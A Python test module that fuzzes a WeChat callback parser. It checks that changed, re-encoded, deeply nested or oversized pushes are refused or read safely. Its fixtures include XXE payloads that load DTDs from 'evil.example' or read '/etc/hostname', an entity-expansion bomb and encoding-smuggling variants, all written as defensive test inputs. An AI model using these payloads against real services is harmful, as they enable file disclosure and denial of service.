"""What somebody sends who wants the callback to stumble: changed pushes, other encodings, depth, size.

It is refused with a reason, or it is read; nothing else happens.
"""

import codecs
import json
from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from chalicelib.wechat import drafts, envelope, push, xmltext
from chalicelib.wechat.envelope import Mode
from chalicelib.wechat.refused import PushRefused, Reason
from tests.unit.wechat import samples
from tests.unit.wechat.samples import APPID, FAN, GH, NOW, PLAIN, SAFE

FOLLOW = samples.body("event", "subscribe", "<EventKey><![CDATA[qrscene_618]]></EventKey>")
ENTERED = samples.json_body("event", "user_enter_tempsession", SessionFrom="sku=1")
REASONS = frozenset(Reason)

DOCTYPE = '<!DOCTYPE xml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
VICTIM = "<xml><MsgType>text</MsgType><FromUserName>&b;</FromUserName></xml>"

DECLARED = {
    "at the start": DOCTYPE + VICTIM,
    "after a declaration": f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{DOCTYPE}{VICTIM}',
    "after a comment and an instruction": f"<!-- push --><?push?>{DOCTYPE}{VICTIM}",
    "over several lines": DOCTYPE.replace("<!DOCTYPE xml", "<!DOCTYPE\n\txml\n") + VICTIM,
    "of another root": f"<!DOCTYPE push SYSTEM 'http://evil.example/push.dtd'>{VICTIM}",
    "public": f'<!DOCTYPE xml PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://evil.example/x.dtd">{VICTIM}',
    "with a parameter entity": f'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>{VICTIM}',
    "that reads a file": '<!DOCTYPE xml [<!ENTITY b SYSTEM "file:///etc/hostname">]>' + VICTIM,
    "that grows": "<!DOCTYPE xml [" + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 9}">' for n in range(1, 9)) + "]>" + VICTIM,
    "with defaults": f'<!DOCTYPE xml [<!ATTLIST MsgType kind CDATA "x">]>{VICTIM}',
    "hidden behind control characters": f"<!DOC\x00TYPE xml [<!ENTITY b 'x'>]>{VICTIM}",
    "hidden behind a mark": f"\ufeff{DOCTYPE}{VICTIM}",
}
BESIDE = {
    "in lower case": DOCTYPE.lower() + VICTIM,
    "inside": f"<xml>{DOCTYPE}<MsgType>text</MsgType></xml>",
    "after the root": f"<xml><MsgType>text</MsgType></xml>{DOCTYPE}",
    "left open": "<!DOCTYPE xml [" + VICTIM,
    "with blanks": f"<! DOCTYPE xml>{VICTIM}",
}
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037", "utf-8-sig"]


def outcome(query: dict[str, str], body: bytes, account: envelope.Account = SAFE) -> Reason | None:
    """Why it was refused, or None."""
    try:
        found = envelope.open_push(query, body, account, NOW).push
        assert all(draft.identifiers for draft in drafts.drafts_of(found, APPID)) or not found.openid
    except PushRefused as refused:
        return said(refused)
    return None


def said(refused: PushRefused) -> Reason:
    """The reason; the sentence beside it is a word for the log, and never what was sent."""
    assert refused.reason in REASONS
    assert len(refused.detail) < 200
    return refused.reason


def sealed_outcome(message: bytes) -> Reason | None:
    """What becomes of a message that is encrypted and signed as it should be."""
    encrypt = samples.sealed(message)
    return outcome(samples.safe_query(encrypt), samples.safe_body(encrypt))


def changed(body: bytes) -> st.SearchStrategy[bytes]:
    """The bytes with a part taken out, doubled, overwritten or put elsewhere."""
    at, other = st.integers(0, len(body)), st.integers(0, len(body))
    insert = st.binary(max_size=12) | st.sampled_from(
        [b"]]>", b"<![CDATA[", b"<!DOCTYPE x>", b"\x00", b"&a;", b"</xml>", b"<Encrypt>x</Encrypt>"]
    )
    return st.builds(lambda a, b, new: body[: min(a, b)] + new + body[max(a, b) :], at, other, insert) | st.builds(
        lambda a, b: body[:a] + body[min(a, b) :], at, other
    )


@pytest.mark.parametrize("body", DECLARED.values(), ids=DECLARED)
def test_a_document_type_is_refused_wherever_it_hides(body: str) -> None:
    assert sealed_outcome(body.encode()) is Reason.DOCTYPE_FORBIDDEN
    assert outcome(samples.plain_query(), body.encode(), PLAIN) is Reason.DOCTYPE_FORBIDDEN
    assert outcome(samples.safe_query("x"), body.replace("MsgType", "Encrypt").encode()) is Reason.DOCTYPE_FORBIDDEN


@pytest.mark.parametrize("body", BESIDE.values(), ids=BESIDE)
def test_what_only_looks_like_one_is_no_xml(body: str) -> None:
    assert sealed_outcome(body.encode()) in {Reason.BODY_UNREADABLE, Reason.DOCTYPE_FORBIDDEN}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("body", [*DECLARED.values(), *BESIDE.values()])
def test_no_other_encoding_smuggles_one_in(encoding: str, body: str) -> None:
    named = f'<?xml version="1.0" encoding="{encoding}"?>{body}'
    for text in (body, named):
        assert sealed_outcome(text.encode(encoding, "replace")) in {Reason.BODY_UNREADABLE, Reason.DOCTYPE_FORBIDDEN}


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "cp037"])
def test_a_push_in_another_encoding_is_none(encoding: str) -> None:
    body = f'<?xml version="1.0" encoding="{encoding}"?><xml><MsgType>text</MsgType></xml>'
    assert sealed_outcome(body.encode(encoding)) is Reason.BODY_UNREADABLE


DEEP: dict[str, Callable[[int], str]] = {
    "xml": lambda depth: "<xml><MsgType>text</MsgType>" + "<A>" * depth + "</A>" * depth + "</xml>",
    "objects": lambda depth: '{"MsgType":"text","A":' + '{"a":' * depth + "1" + "}" * depth + "}",
    "lists": lambda depth: '{"MsgType":"text","A":' + "[" * depth + "]" * depth + "}",
    "lists never closed": lambda depth: '{"MsgType":"text","A":' + "[" * depth,
    "xml never closed": lambda depth: "<xml><MsgType>text</MsgType>" + "<A>" * depth,
}


@pytest.mark.parametrize("form", DEEP)
@pytest.mark.parametrize("depth", [13, 100, 1_000, 10_000, 12_000])
def test_depth_is_refused_before_it_can_exhaust_anything(form: str, depth: int) -> None:
    assert sealed_outcome(DEEP[form](depth).encode()) in {Reason.NESTED_TOO_DEEP, Reason.BODY_UNREADABLE}


@pytest.mark.parametrize(
    "body",
    [
        "<xml><MsgType>text</MsgType>" + "<A/>" * 20_000 + "</xml>",
        "<xml><MsgType " + " ".join(f'a{n}="x"' for n in range(5_000)) + ">text</MsgType></xml>",
        "<xml><MsgType>text</MsgType><" + "n" * 50_000 + "/></xml>",
        "<xml><MsgType>text</MsgType><CreateTime>" + "9" * 50_000 + "</CreateTime></xml>",
        "<xml><MsgType>text</MsgType><MsgId>" + "9" * 50_000 + "</MsgId></xml>",
        '{"MsgType":"text","MsgId":' + "9" * 50_000 + "}",
        '{"MsgType":"text","CreateTime":1e400,"Content":' + '"\\ud800"' + "}",
        '{"MsgType":"text","CreateTime":NaN}',
        '{"MsgType":"text",' + ",".join(f'"a{n}":1' for n in range(9_000)) + "}",
        '{"MsgType":"text","MsgType":["event"],"Event":{"a":1}}',
    ],
    ids=["elements", "attributes", "name", "time", "id", "number", "infinite", "none", "names", "twice"],
)
def test_size_is_read_or_refused(body: str) -> None:
    assert sealed_outcome(body.encode()) in {None, Reason.BODY_UNREADABLE, Reason.BODY_TOO_LARGE}


@pytest.mark.parametrize("extra", [0, 1])
def test_the_largest_body_is_measured_before_it_is_read(extra: int) -> None:
    body = b"<xml>" + b" " * (xmltext.MAX_BODY_BYTES - 11 + extra) + b"</xml>"
    assert outcome(samples.plain_query(), body, PLAIN) is (Reason.BODY_TOO_LARGE if extra else Reason.BODY_UNREADABLE)


@given(changed(FOLLOW) | changed(ENTERED) | st.binary(max_size=300))
@example(FOLLOW.replace(b"subscribe", b"sub\x00scribe"))
@example(codecs.BOM_UTF8 + FOLLOW)
@example(codecs.BOM_UTF16_LE + FOLLOW)
def test_a_changed_push_is_read_or_refused_whoever_signed_it(message: bytes) -> None:
    sealed_outcome(message)
    outcome(samples.plain_query(), message, PLAIN)


@given(changed(samples.safe_body(samples.sealed(FOLLOW))))
def test_a_changed_envelope_is_refused_unless_its_encrypted_part_is_whole(body: bytes) -> None:
    encrypt = samples.sealed(FOLLOW)
    found = outcome(samples.safe_query(encrypt), body)
    assert found is not None or push.read_body(body)[0]["Encrypt"].split() == encrypt.split()


@given(st.data())
def test_a_changed_query_is_refused(data: st.DataObject) -> None:
    encrypt = samples.sealed(FOLLOW)
    query = samples.safe_query(encrypt)
    name = data.draw(st.sampled_from(["msg_signature", "timestamp", "nonce", "encrypt_type"]))
    value = data.draw(st.text(max_size=50).filter(lambda text: text != query[name]))
    assert outcome({**query, name: value}, samples.safe_body(encrypt)) is not None


@given(st.integers(0, len(samples.sealed(FOLLOW)) - 1), st.sampled_from("ABCDabcd0189+/=\n \x00é"))
def test_a_changed_sign_of_the_encrypted_part_is_refused(at: int, sign: str) -> None:
    encrypt = samples.sealed(FOLLOW)
    other = encrypt[:at] + sign + encrypt[at + 1 :]
    assert outcome(samples.safe_query(encrypt), samples.safe_body(other)) is not None or other == encrypt
    assert outcome(samples.safe_query(other), samples.safe_body(other)) in {None, *REASONS}  # signed, and yet not what WeChat encrypted


@pytest.mark.parametrize("mode", list(Mode))
@given(st.dictionaries(st.text(max_size=8), st.text(max_size=20), max_size=6), st.binary(max_size=200))
def test_without_the_token_nothing_is_believed_in_any_mode(mode: Mode, query: dict[str, str], body: bytes) -> None:
    assert outcome(query, body, replace(SAFE, mode=mode)) is not None


@given(st.text(max_size=40), st.text(max_size=40), st.text(max_size=40))
def test_whatever_a_fan_writes_is_a_text_and_nothing_more(content: str, scene: str, event_name: str) -> None:
    for fields in ({"MsgType": "text", "Content": content}, {"MsgType": "event", "Event": event_name, "EventKey": f"qrscene_{scene}"}):
        document = {"ToUserName": GH, "FromUserName": FAN, **fields}
        assert sealed_outcome(json.dumps(document).encode()) in {None, Reason.BODY_UNREADABLE, Reason.TYPE_MISSING}
        assert sealed_outcome(xmltext.render(document).encode()) in {None, Reason.TYPE_MISSING}
